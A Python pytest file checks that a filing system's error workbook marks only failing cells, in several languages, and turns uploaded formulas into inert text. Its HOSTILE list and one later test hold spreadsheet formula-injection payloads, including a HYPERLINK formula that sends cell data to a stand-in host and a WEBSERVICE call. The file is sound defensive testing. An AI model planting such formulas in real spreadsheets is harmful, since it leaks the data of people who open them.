"""The error workbook (N3): exactly the failing cells marked, explained in the uploader's
language, everything else as uploaded; user text can never become a formula (QUALITY E1)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from filings.errors import RuleError
from filings.xlsx import (
    ERRORS_SHEET,
    BulkFileError,
    CellProblem,
    build_error_workbook,
    build_template,
    read_upload,
)
from filings.xlsx.report import MARK_AUTHOR, MARK_FILL
from tests.filings.bulk.conftest import TODAY, fill, make_rows

PROBLEMS = [
    CellProblem(7, "birth_date", "E-DATE-FUTURE", {}),
    CellProblem(150, "sex", "E-CHOICE-INVALID", {}),
    CellProblem(299, "card_number", "E-BULK-DUPLICATE", {"row": 12}),
]


@pytest.fixture(scope="module")
def upload() -> bytes:
    template = build_template("acceptance", "ja", choices={}, today=TODAY)
    return fill(template, make_rows("acceptance", 300))


def marked_cells(sheet) -> dict[str, str]:
    return {
        cell.coordinate: cell.comment.text
        for row in sheet.iter_rows()
        for cell in row
        if cell.fill == MARK_FILL or cell.comment is not None
    }


def test_exactly_the_failing_cells_are_marked_in_the_requested_language(upload):
    sheet = read_upload(upload, "people.xlsx")
    letters = sheet.column_letters
    result = build_error_workbook(upload, "people.xlsx", PROBLEMS, language="ja")
    workbook = load_workbook(io.BytesIO(result))
    data = workbook.worksheets[0]
    expected = {
        f"{letters[p.column]}{p.row}": RuleError(p.code, p.params).message("ja") for p in PROBLEMS
    }
    assert marked_cells(data) == expected
    assert all(data[c].fill == MARK_FILL for c in expected)
    assert all(data[c].comment.author == MARK_AUTHOR for c in expected)
    errors = workbook[ERRORS_SHEET]
    lines = list(errors.iter_rows(min_row=2, values_only=True))
    assert len(lines) == 3
    assert [(line[0], line[2], line[3]) for line in lines] == [
        (p.row, p.code, RuleError(p.code, p.params).message("ja")) for p in PROBLEMS
    ]
    assert lines[1][1].endswith(f"({letters['sex']})")
    assert workbook.sheetnames[0] == data.title


def test_everything_else_is_unchanged_and_the_file_reads_again(upload):
    result = build_error_workbook(upload, "people.xlsx", PROBLEMS, language="en")
    before = read_upload(upload, "people.xlsx")
    after = read_upload(result, "people.xlsx")
    assert [r.values for r in after.rows] == [r.values for r in before.rows]
    assert after.column_letters == before.column_letters
    original = load_workbook(io.BytesIO(upload))
    returned = load_workbook(io.BytesIO(result))
    assert returned.sheetnames == [*original.sheetnames, ERRORS_SHEET]
    assert returned.worksheets[2].sheet_state == "hidden"
    assert len(returned.worksheets[0].data_validations.dataValidation) == len(
        original.worksheets[0].data_validations.dataValidation
    )


def test_row_and_file_problems(upload):
    problems = [
        CellProblem(20, "", "E-CONSENT-MISSING", {}),
        CellProblem(0, "", "E-BULK-NO-ROWS", {}),
    ]
    workbook = load_workbook(
        io.BytesIO(build_error_workbook(upload, "people.xlsx", problems, language="ko"))
    )
    expected = {"A20": RuleError("E-CONSENT-MISSING").message("ko")}
    assert marked_cells(workbook.worksheets[0]) == expected
    lines = list(workbook[ERRORS_SHEET].iter_rows(min_row=2, values_only=True))
    assert [line[2] for line in lines] == ["E-BULK-NO-ROWS", "E-CONSENT-MISSING"]


def test_a_corrected_error_workbook_shows_only_the_new_problems(upload):
    first = build_error_workbook(upload, "people.xlsx", PROBLEMS, language="en")
    second = build_error_workbook(
        first, "people.xlsx", [CellProblem(8, "event_date", "E-DATE-INVALID", {})], language="en"
    )
    workbook = load_workbook(io.BytesIO(second))
    letter = read_upload(upload, "people.xlsx").column_letters["event_date"]
    assert marked_cells(workbook.worksheets[0]) == {
        f"{letter}8": RuleError("E-DATE-INVALID").message("en")
    }
    assert workbook.sheetnames.count(ERRORS_SHEET) == 1
    assert workbook[ERRORS_SHEET].max_row == 2


HOSTILE = ['=HYPERLINK("http://x/?"&A1,"a")', "+1+1", "-2", "@SUM(A1)", "\tfoo", "\x00x"]


def test_a_csv_comes_back_as_a_workbook_with_no_formula_anywhere():
    rows = make_rows("snapshot", 6)
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    columns = list(rows[0])
    writer.writerow(columns)
    for values, hostile in zip(rows, HOSTILE, strict=True):
        values["address_rest"] = hostile
        writer.writerow([v.isoformat() if hasattr(v, "isoformat") else v for v in values.values()])
    content = buffer.getvalue().encode()
    problems = [CellProblem(2, "address_rest", "E-REQUIRED", {})]
    result = build_error_workbook(content, "people.csv", problems, language="en")
    archive = zipfile.ZipFile(io.BytesIO(result))
    for name in archive.namelist():
        if name.startswith("xl/worksheets/"):
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    sheet = load_workbook(io.BytesIO(result)).worksheets[0]
    letter = columns.index("address_rest") + 1
    cells = [sheet.cell(row=n, column=letter) for n in range(2, 8)]
    assert [c.data_type for c in cells] == ["s"] * 6
    assert all(c.quotePrefix for c in cells)
    assert cells[0].value == HOSTILE[0]
    assert cells[5].value == "x"
    assert cells[0].fill == MARK_FILL


def test_a_formula_in_the_upload_comes_back_as_inert_text(upload):
    workbook = load_workbook(io.BytesIO(upload))
    workbook.worksheets[0]["D7"] = '=WEBSERVICE("http://x/")'
    buffer = io.BytesIO()
    workbook.save(buffer)
    problems = [CellProblem(7, "", "E-BULK-FORMULA", {"cell": "D7"})]
    result = build_error_workbook(buffer.getvalue(), "people.xlsx", problems, language="en")
    archive = zipfile.ZipFile(io.BytesIO(result))
    assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    cell = load_workbook(io.BytesIO(result)).worksheets[0]["D7"]
    assert (cell.value, cell.data_type) == ('=WEBSERVICE("http://x/")', "s")


def test_the_upload_is_checked_again(upload):
    with pytest.raises(BulkFileError) as caught:
        build_error_workbook(b"not a workbook", "people.xlsx", PROBLEMS, language="en")
    assert caught.value.code == "E-BULK-NOT-XLSX"
